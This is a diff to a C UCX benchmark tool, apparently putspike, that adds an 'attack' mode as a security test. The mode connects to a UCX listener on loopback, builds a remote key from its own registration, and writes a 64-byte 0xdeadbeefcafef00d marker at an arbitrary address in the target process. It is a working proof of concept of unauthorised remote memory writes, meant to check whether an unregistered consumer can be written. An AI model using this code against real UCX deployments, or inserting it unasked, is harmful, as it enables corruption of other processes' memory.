@@ -519,7 +519,41 @@ static void put_producer(double *cpu) {
     ucp_rkey_destroy(rkey);
 }
 
+/* putspike attack PORT ADDR: connect to a UCX listener on 127.0.0.1:PORT (error handling
+ * on, like the plane's tcp endpoints), forge an rkey (packed from a registration of our
+ * own: on tcp it carries nothing the target checks), put 64 bytes of 0xdeadbeefcafef00d
+ * at ADDR of the target and flush. For checking that a consumer that registered nothing
+ * (no RMA feature) is written anyway (attack_plane.py). */
+static int attack(int port, uint64_t addr) {
+    SPIN = 0; ERRPEER = 1;
+    init_ucx(1);
+    static uint64_t mark[8] = {0xdeadbeefcafef00dull, 0xdeadbeefcafef00dull, 0xdeadbeefcafef00dull,
+                               0xdeadbeefcafef00dull, 0xdeadbeefcafef00dull, 0xdeadbeefcafef00dull,
+                               0xdeadbeefcafef00dull, 0xdeadbeefcafef00dull};
+    ucp_mem_map_params_t mp = {.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
+                               .address = mark, .length = sizeof mark};
+    ucp_mem_h mh;
+    CHK(ucp_mem_map(ctx, &mp, &mh), "mem_map");
+    void *fk; size_t fl;
+    CHK(ucp_rkey_pack(ctx, mh, &fk, &fl), "rkey_pack");
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ucp_ep_params_t e = {.field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR,
+                         .flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER,
+                         .sockaddr = {.addr = (void *)&a, .addrlen = sizeof a}};
+    fill_ep_params(&e);
+    CHK(ucp_ep_create(wk, &e, &ep), "ep_create");
+    ucp_rkey_h rkey;
+    CHK(ucp_ep_rkey_unpack(ep, fk, &rkey), "rkey_unpack");
+    ucp_request_param_t p0 = {.op_attr_mask = 0};
+    wait_req(ucp_put_nbx(ep, mark, sizeof mark, addr, rkey, &p0), "put");
+    wait_req(ucp_ep_flush_nbx(ep, &p0), "flush");
+    fprintf(stderr, "attack: put of 64 bytes at %#lx flushed\n", (unsigned long)addr);
+    return 0;
+}
+
 int main(int argc, char **argv) {
+    if (argc == 4 && !strcmp(argv[1], "attack")) return attack(atoi(argv[2]), strtoull(argv[3], 0, 0));
     if (argc != 9) DIE("usage: putspike PAGE N REPS flush|fenceflag|tagonly|raw peer|none spin|block NSEG SEG");
     PAGE = strtoull(argv[1], 0, 0); N = strtoull(argv[2], 0, 0); REPS = strtoull(argv[3], 0, 0);
     MODE = !strcmp(argv[4], "flush") ? M_FLUSH : !strcmp(argv[4], "fenceflag") ? M_FENCEFLAG
